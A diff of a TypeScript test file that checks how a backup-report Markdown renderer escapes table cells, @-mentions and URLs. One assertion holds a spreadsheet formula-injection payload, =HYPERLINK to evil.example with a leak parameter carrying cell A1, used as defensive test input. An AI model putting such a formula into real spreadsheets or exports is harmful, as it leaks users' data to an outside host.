@@ -38,6 +38,18 @@ function cells(row: string): string[] {
 const UNESCAPED = /(?<!\\)(?:\\\\)*[`*_~[\]<>]/;
 
 describe('renderMarkdown', () => {
+  it('names the source a failed backup server is a part of, escaped, so it reads as no EM', () => {
+    const report = twoSourceReport();
+    report.failedSources = [
+      { name: 'em-west', error: 'timeout', source: '*em-east*|x' },
+      { name: 'em-north', error: 'connection refused' },
+    ];
+    expect(renderMarkdown(report)).toContain(
+      '| Source | Error |\n| --- | --- |\n| em-west (of \\*em-east\\*\\|x) | timeout |\n' +
+        '| em-north | connection refused |\n',
+    );
+  });
+
   it('names the source of each job when the jobs come from more than one EM', () => {
     const text = renderMarkdown(twoSourceReport());
     expect(text).toContain(
@@ -257,7 +269,20 @@ describe('renderMarkdown', () => {
     expect(output).toContain(
       '| \\`code\\` \\*bold\\* \\_em\\_ \\~\\~strike\\~\\~ \\\\\\* | critical |',
     );
-    expect(output).toContain('=HYPERLINK("http://evil.example/?leak="&amp;A1,"x")');
+    // After `"` the URL is no autolink GitHub is sure of, yet cmark-gfm would link it: kept from
+    // linking, so that the escapes in it stay escapes.
+    expect(output).toContain('=HYPERLINK("http\\://evil.example/?leak="&amp;A1,"x")');
+  });
+
+  it('leaves a URL in a reason verbatim and defuses an @-mention in it', () => {
+    const report = twoSourceReport();
+    const reason =
+      'Pre-job script failed: @echo off; cc @acme/security-team, see https://kb.example/a_b?c=1';
+    report.jobs = [jobReport({ jobName: 'Nightly @ops', source: 'hq', reasons: [reason] })];
+    const output = renderMarkdown(report);
+    expect(output).toContain(
+      '| Nightly \\@ops | hq | ok | Success | 1h ago | 1 | 100.0% | Pre-job script failed: \\@echo off; cc \\@acme/security-team, see https://kb.example/a_b?c=1 |',
+    );
   });
 
   it('shows URLs in job names, reasons and server names as they are, in intact cells', () => {
